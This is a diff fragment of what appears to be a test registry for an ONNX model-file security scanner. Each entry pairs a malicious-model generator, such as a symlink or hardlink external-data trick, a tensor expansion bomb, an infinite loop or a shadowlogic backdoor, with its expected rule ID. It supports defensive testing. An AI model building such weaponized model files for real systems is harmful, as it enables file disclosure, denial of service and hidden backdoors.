+    Sample("CVE-2024-27318-onnx-external-symlink", make_onnx_external_symlink, ("ONNX003",),
+           "onnx"),
+    Sample("onnx-external-hardlink", make_onnx_external_hardlink, ("ONNX004",), "onnx"),
+    Sample("onnx-external-out-of-range", make_onnx_external_out_of_range, ("ONNX006",), "onnx"),
+    Sample("onnx-external-unknown-key", make_onnx_external_unknown_key, ("ONNX007",), "onnx"),
+    Sample("onnx-ort-mem-addr", make_onnx_ort_mem_addr, ("ONNX008",), "onnx"),
+    Sample("onnx-custom-op-domain", make_onnx_custom_op_domain, ("ONNX010",), "onnx"),
+    Sample("onnx-ep-context", make_onnx_ep_context, ("ONNX013",), "onnx"),
+    Sample("onnx-aten-fallback", make_onnx_aten_fallback, ("ONNX014",), "onnx"),
+    Sample("onnx-tensor-two-data-fields", make_onnx_tensor_two_fields, ("ONNX020",), "onnx"),
+    Sample("onnx-tensor-dims-mismatch", make_onnx_tensor_dims_mismatch, ("ONNX021",), "onnx"),
+    Sample("onnx-constant-of-shape-bomb", make_onnx_constant_of_shape_bomb, ("ONNX024",), "onnx"),
+    Sample("onnx-expand-bomb", make_onnx_expand_bomb, ("ONNX024",), "onnx"),
+    Sample("onnx-loop-trip-count", make_onnx_loop_trip_count, ("ONNX025",), "onnx"),
+    Sample("onnx-infinite-loop", make_onnx_infinite_loop, ("ONNX025",), "onnx"),
+    Sample("onnx-nesting-depth", make_onnx_nesting_depth, ("ONNX027",), "onnx"),
+    Sample("onnx-recursive-functions", make_onnx_recursive_functions, ("ONNX028",), "onnx"),
+    Sample("onnx-ort-config-metadata", make_onnx_ort_config_metadata, ("ONNX030",), "onnx"),
+    Sample("onnx-invalid-graph", make_onnx_invalid_graph, ("ONNX032",), "onnx"),
+    Sample("shadowlogic-where", make_shadowlogic_where, ("ONNX031",), "onnx"),
+    Sample("shadowlogic-if", make_shadowlogic_if, ("ONNX031",), "onnx"),
+)
